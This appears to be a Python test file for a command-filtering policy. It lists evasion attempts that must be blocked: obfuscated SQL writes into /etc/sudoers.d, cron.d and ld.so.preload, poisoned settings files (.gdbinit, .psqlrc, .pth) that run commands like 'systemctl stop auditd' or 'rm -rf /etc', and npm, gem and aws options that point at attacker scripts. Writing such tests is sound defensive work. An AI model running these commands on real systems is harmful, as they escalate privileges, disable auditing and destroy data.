"""Attack a36f, findings 5, 7, 10, 17, 22, 26 and 27: SQL write targets the grammar read wrong
(a string going on across a newline, ClickHouse's backslash escapes, a target built by an
expression, DuckDB's settings that write files), the settings files of programs that run a
command beside the listed ones (and one written elsewhere, then used through HOME), npm's
option abbreviations nopt reads, and a pattern where a settings verb stands. Each attack line is
held typed and as an exec command; the honest lines beside them still run."""

from bastion.command_control import policy
from tests.policy_rows import assert_held_or_runs
from tests.rows import each

NL = "\n"
HELD = [
    # finding 5: a string literal goes on across a newline; ClickHouse's escapes
    f"duckdb -c \"CREATE TABLE t AS SELECT 1 AS x; COPY t TO '/tmp/'{NL}'../etc/sudoers.d/ops' (HEADER 0)\"",
    f"duckdb -c \"COPY t TO '/tmp/'{NL}'../etc/sudoers.d/ops'\"",
    f"duckdb -c \"ATTACH '/e'{NL}'tc/sudoers.d/ops' AS x\"",
    f"duckdb x.db \"COPY t TO '/e'{NL}'tc/cron.d/x'\"",
    f"duckdb x.db \".mode csv{NL}COPY t TO '/e'  {NL}  'tc/cron.d/x'\"",
    f"litecli -e \"ATTACH '/e'{NL}'tc/sudoers.d/ops' AS x\"",
    "clickhouse-local -q \"SELECT 'x' INTO OUTFILE '\\/etc/sudoers.d/ops' FORMAT TSVRaw\"",
    "clickhouse-local -q \"SELECT 'x' INTO OUTFILE '\\x2Fetc/sudoers.d/ops' FORMAT TSVRaw\"",
    "clickhouse-local -q \"INSERT INTO FUNCTION file('\\/etc/sudoers.d/ops', 'TSVRaw') SELECT 'x'\"",
    "clickhouse-client -q \"SELECT 'x' INTO OUTFILE '\\/etc/cron.d/x' FORMAT TSVRaw\"",
    "clickhouse-local -q \"SELECT 'a\\' INTO OUTFILE \\'/tmp/ok' FORMAT TSV\"",
    # finding 27: a target built by an expression
    "sqlite3 :memory: \"SELECT writefile('/e'||'tc/sudoers.d/ops', 'ops ALL=(ALL) ALL' || char(10))\"",
    "sqlite3 x.db \"SELECT writefile('/e'||'tc/ld.so.preload', '/tmp/evil.so')\"",
    "sqlite3 :memory: \"VACUUM INTO '/e'||'tc/sudoers.d/ops'\"",
    "sqlite3 :memory: \"VACUUM main INTO '/e' || 'tc/sudoers.d/ops'\"",
    "sqlite3 :memory: \"ATTACH '/e' || 'tc/sudoers.d/ops' AS x; CREATE TABLE x.t(a)\"",
    "sqlite3 :memory: \"ATTACH DATABASE '/e'||'tc/sudoers.d/ops' AS x\"",
    "sqlite3 :memory: \"ATTACH 'file:/e'||'tc/sudoers.d/ops' AS x\"",
    "duckdb -c \"ATTACH '/e' || 'tc/sudoers.d/ops' AS x\"",
    "duckdb -c \"COPY t TO concat('/e', 'tc/cron.d/x')\"",
    "duckdb -c \"COPY t TO '/e' /* c */ 'tc/cron.d/x'\"",
    "litecli -e \"VACUUM INTO '/e'||'tc/sudoers.d/ops'\"",
    "clickhouse-local -q \"SELECT 1 INTO OUTFILE '/e' || 'tc/x'\"",
    "duckdb -c \"COPY t TO '/e'\r'tc/sudoers.d/ops'\"", "mycli -e \"SELECT 1 INTO OUTFILE 0x2F6574632F78\"",
    # sqlite3 fed its SQL on stdin: the same writes as on its line
    f"sqlite3 x.db <<'EOF'{NL}VACUUM INTO '/etc/sudoers.d/ops';{NL}EOF",
    f"sqlite3 x.db <<'EOF'{NL}ATTACH '/etc/sudoers.d/ops' AS x;{NL}EOF",
    f"sqlite3 x.db <<'EOF'{NL}VACUUM INTO '/e'||'tc/sudoers.d/ops';{NL}EOF",
    "sqlite3 x.db <<< \"VACUUM INTO '/etc/sudoers.d/ops'\"",
    # finding 22: DuckDB's settings that write files
    "duckdb -c \"SET log_query_path=\\$\\$/etc/sudoers.d/ops\\$\\$; SELECT 1\"",
    "duckdb -c \"SET temp_directory=\\$\\$/etc/sudoers.d\\$\\$; SELECT 1\"",
    "duckdb -c \"SET log_query_path='/etc/ld.so.preload'; SELECT 1\"",
    f"duckdb -c \"SET log_query_path='/etc/ld.so'{NL}'.preload'; SELECT '{NL}/tmp/evil.so{NL}'\"",
    "duckdb -c \"SET GLOBAL log_query_path TO '/etc/sudoers.d/ops'\"",
    "duckdb -c \"PRAGMA profiling_output='/etc/sudoers.d/ops'\"",
    "duckdb -c \"SET log_query_path=getenv('X')\"",
    "duckdb -c \"SET custom_extension_repository='http://evil/ext'\"",
    "duckdb -c \"SET some_new_setting='/etc/cron.d/x'\"",
    "sqlite3 x.db \"PRAGMA temp_store_directory='/etc/sudoers.d'\"",
    "mycli -e \"SET GLOBAL general_log_file='/etc/x'\"",
    # finding 10: npm's option abbreviations as nopt reads them (npm 11: any unique start)
    "npm run build --scr=/tmp/x", "npm --scr /tmp/x run build", "npm test --scr=/tmp/x",
    "npm edit y --ed=/tmp/x", "npm run x ---scr=/tmp/x", "npm run x -scr=/tmp/x",
    "npm run x --she=/tmp/x", "npm i --userc=/tmp/rc", "npm i --globalc /tmp/rc",
    "npm view x --vi=/tmp/x", "npm docs x --br=/tmp/x", "npm init --init-m=/tmp/x.js",
    "npm run x --node-o='--require /tmp/x.js'", "pnpm run x --scr=/tmp/x",
    # finding 17: a pattern where a settings verb stands
    "cd /tmp && touch config && npm confi? set script-shell /tmp/x",
    "npm confi? set script-shell /tmp/x", "npm config se? script-shell /tmp/x",
    "npm c[o]nfig set globalconfig /tmp/npmrc", "npm con* set prefix /tmp/p", "npm confi? edit",
    "pnpm confi? set script-shell /tmp/x", "yarn confi? set script-shell /tmp/x",
    "gem source? --add http://evil/", "gem sour* -a http://evil/", "gem so* --a=http://evil/",
    "conda config --se? prefix /tmp",
    # finding 26: a settings file written elsewhere, the program pointed at it
    "mkdir -p /tmp/h && echo 'shell systemctl stop auditd' > /tmp/h/.gdbinit && HOME=/tmp/h gdb -batch",
    "echo 'shell systemctl stop auditd' > /tmp/h/.gdbearlyinit && HOME=/tmp/h gdb -batch",
    "echo 'shell systemctl stop auditd' > /tmp/c/gdb/gdbinit && XDG_CONFIG_HOME=/tmp/c gdb -batch",
    "echo '\\! systemctl stop auditd' > /tmp/h/.psqlrc && HOME=/tmp/h psql -h db1",
    "echo '\\! systemctl stop auditd' > /tmp/rc && PSQLRC=/tmp/rc psql -h db1",
    "export HOME=/tmp/h; gdb -batch", "env HOME=/tmp/h psql -h db1",
    "echo 'import os' > /tmp/h/.local/lib/python3.11/site-packages/x.pth; HOME=/tmp/h python3 -c 1",
    "AWS_CONFIG_FILE=/tmp/c aws s3 ls", "ANSIBLE_CONFIG=/tmp/a.cfg ansible all -m ping",
    "HGRCPATH=/tmp/hgrc hg status", "LFTP_HOME=/tmp/l lftp h", "HOME=/tmp/h vim x",
    "TF_CLI_CONFIG_FILE=/tmp/t terraform plan", "HOME=/tmp/h kubectl get pods",
]
RUNS = [
    # honest SQL: relative and /tmp targets, settings that name no file, concatenation elsewhere
    "duckdb -c \"COPY t TO 'out.csv' (HEADER, DELIMITER ',')\"",
    "duckdb x.db \"COPY t TO '/tmp/out.parquet' (FORMAT parquet)\"",
    f"duckdb x.db \"COPY t TO '/tmp/out.csv';{NL}SELECT 'done'\"",
    "duckdb x.db -c \"SET threads=4; SELECT 1\"",
    "duckdb -c \"SET TimeZone='America/New_York'; SELECT now()\"",
    "sqlite3 x.db \"PRAGMA journal_mode=WAL\"", "sqlite3 x.db 'PRAGMA integrity_check'",
    "sqlite3 x.db \"ATTACH 'other.db' AS o; SELECT * FROM o.t\"",
    "sqlite3 x.db \"VACUUM INTO '/tmp/backup.db'\"",
    "sqlite3 x.db \"SELECT 'a' || 'b'\"",
    "sqlite3 x.db \"SELECT writefile('/tmp/out.bin', data) FROM t\"",
    "clickhouse-local -q \"SELECT 1 INTO OUTFILE 'out.tsv'\"",
    f"sqlite3 x.db <<'EOF'{NL}VACUUM INTO '/tmp/b.db';{NL}EOF",
    "sqlite3 x.db <<'EOF'\n.tables\nEOF",
    # honest npm options beside the abbreviations
    "npm install --global typescript", "npm install --save-dev eslint", "npm ci --omit=dev",
    "npm run build --silent", "npm install --no-save x", "npm publish --dry-run",
    "npm install --include=dev", "npm install --ignore-scripts", "npm --prefix client run build",
    # honest patterns beside the settings verbs
    "npm install ./pkg*.tgz", "gem install rails*", "npm config get registry", "gem list 'r*'",
    # honest: the programs run without moving their settings, HOME set for other programs
    "psql -h db1 -c 'select 1'", "python3 x.py", "HOME=/tmp/h ls", "aws s3 ls", "hg status",
    "KUBECONFIG=/etc/rancher/k3s/k3s.yaml kubectl get nodes",
]


@each(("line", "held"), [(line, True) for line in HELD]
                         + [(line, False) for line in RUNS])
def test_a36f_c_sql_targets_and_npm_options(default_policy: policy.Policy, line: str, held: bool) -> None:
    assert_held_or_runs(default_policy, line, held)


# Judged as the gates judge them with the login root (`~` is /root), as the y34f_c rows are.
ROOT_ROWS = [
    # finding 7: the other files of the listed programs, and programs of the same kind
    ("echo '\\! rm -rf /etc' > ~/.psqlrc-15; psql", "confirm"),
    ("echo '\\! rm -rf /etc' > ~/.psqlrc-15.18; psql", "confirm"),
    ("echo 'shell rm -rf /etc' > ~/.gdbearlyinit; gdb -batch", "confirm"),
    ("echo 'platform shell rm -rf /etc' > ~/.lldbinit; lldb -b", "confirm"),
    ("echo 'system \"rm -rf /etc\"' > ~/.perldb; PERLDB_OPTS=NonStop perl -d -e 1", "confirm"),
    ("echo 'system \"rm -rf /etc\"' > ~/.pryrc; pry", "confirm"),
    ("echo 'system(\"rm -rf /etc\")' > /etc/R/Rprofile.site; Rscript -e 1", "confirm"),
    ("echo 'import os' > ~/.ipython/profile_default/startup/00.py; ipython3 -c 1", "confirm"),
    ("echo 'import os; os.system(\"x\")' > ~/.local/lib/python3.11/site-packages/x.pth", "confirm"),
    ("echo 'set sendmail=\"rm -rf /etc\"' > ~/.neomuttrc; neomutt -s x root < /dev/null", "confirm"),
    ("echo 'set sendmail=x' > /etc/neomuttrc", "confirm"),
    ("echo 'set cmd:at-exit \"!rm -rf /etc\"' > ~/.config/lftp/rc", "confirm"),
    ("echo 'set cmd:at-exit \"!rm -rf /etc\"' > ~/.lftp/rc", "confirm"),
    ("echo 'script-shell=/tmp/x' > ~/.config/pnpm/rc; pnpm run x", "confirm"),
    ("echo 'script-shell=/tmp/x' >> /usr/lib/node_modules/npm/npmrc; npm run x", "confirm"),
    ("printf '[ssh_connection]\\nssh_args = -oProxyCommand=x\\n' > ~/.ansible.cfg", "confirm"),
    ("cp /tmp/a.cfg /etc/ansible/ansible.cfg", "confirm"),
    ("printf '[default]\\ncredential_process = x\\n' > ~/.aws/config; aws s3 ls", "confirm"),
    ("echo 'on-download-complete=/tmp/x' > ~/.aria2/aria2.conf; aria2c http://h/x", "confirm"),
    ("echo '--exec x' > ~/.config/yt-dlp/config; yt-dlp URL", "confirm"),
    ("echo 'text/plain; rm -rf /etc' > ~/.mailcap; run-mailcap x.txt", "confirm"),
    ("printf '[hooks]\\npre-status = x\\n' > ~/.hgrc; hg status", "confirm"),
    ("echo 'diff-cmd = /tmp/x' >> ~/.subversion/config", "confirm"),
    ("echo 'GOFLAGS=-toolexec=/tmp/x' > ~/.config/go/env", "confirm"),
    ("echo '|/tmp/x' > ~/.forward; echo hi | mail root", "confirm"),
    ("echo 'SHELL=/bin/sh' > /etc/procmailrc", "confirm"), ("cp /tmp/kc ~/.kube/config", "confirm"),
    # honest: reading them, the same names elsewhere
    ("cat ~/.aws/config", "allow"), ("grep ssh_args /etc/ansible/ansible.cfg", "allow"),
    ("echo x > /tmp/.hgrc", "allow"), ("cat ~/.psqlrc-15", "allow"),
    # ansible's own temporary folder on a target (tests/test_everyday.py's ansible run), beside
    # the plugin and collection folders that hold code
    ("chmod u+x ~/.ansible/tmp/ansible-tmp-1-2-3/ ~/.ansible/tmp/ansible-tmp-1-2-3/AnsiballZ_ping.py",
     "allow"),
    ("cp /tmp/evil.py ~/.ansible/plugins/connection/evil.py", "confirm"),
]


@each(("line", "expected"), ROOT_ROWS)
def test_a36f_c_settings_files(default_policy: policy.Policy, line: str, expected: str) -> None:
    for interactive, text in ((True, line), (False, f"cd ~root; {line}")):
        verdict = policy.evaluate(default_policy, text, role="engineer", target="web01", login="root",
                                  interactive=interactive, known=policy.KnownValues())
        assert verdict.action == expected, (line, interactive, verdict)
